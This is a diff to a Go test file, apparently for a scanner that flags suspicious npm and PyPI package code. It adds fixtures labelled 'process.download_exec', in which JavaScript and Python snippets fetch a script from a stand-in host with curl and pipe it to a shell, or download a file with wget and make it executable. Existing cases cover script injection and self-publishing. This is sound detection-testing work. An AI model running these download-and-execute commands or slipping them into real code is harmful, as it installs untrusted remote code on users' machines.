@@ -98,6 +98,8 @@ var jsTokenCases = []tokenCase{
 	{"script.inject", "script src", `const s = document.createElement('script'); s.src = 'https://cdn.example.invalid/x.js';`},
 	{"publish.self", "npm publish", `require('child_process').execSync('npm publish');`},
 	{"fs.read.nonsource", "png", `const fs = require('fs'); fs.readFileSync(__dirname + '/logo.png');`},
+	{"process.download_exec", "curl pipe", `require('child_process').exec('curl -s http://192.0.2.1/i.sh | sh');`},
+	{"process.download_exec", "sh -c argv", `const cp = require('child_process'); const u = 'http://192.0.2.1/x'; cp.spawn('sh', ['-c', 'wget -q ' + u + ' -O /tmp/x && chmod +x /tmp/x']);`},
 }
 
 var pyTokenCases = []tokenCase{
@@ -260,6 +262,10 @@ subprocess.run(['twine', 'upload', 'dist/*'])`},
 blob = pkgutil.get_data(__name__, 'payload.bin')`},
 	{"wallet.address", "eth literal", `TO = "0xa54dca182530bb1d6d132cded6237b2ed91e3f72"`},
 	{"publish.self", "twine", `os.system("twine upload dist/*")`},
+	{"process.download_exec", "os.system", `import os
+os.system("curl -fsSL http://192.0.2.1/i.sh | bash")`},
+	{"process.download_exec", "argv", `import subprocess
+subprocess.call(["sh", "-c", "wget -q http://192.0.2.1/x -O /tmp/x; chmod +x /tmp/x"])`},
 }
 
 func numbers(n int) string {
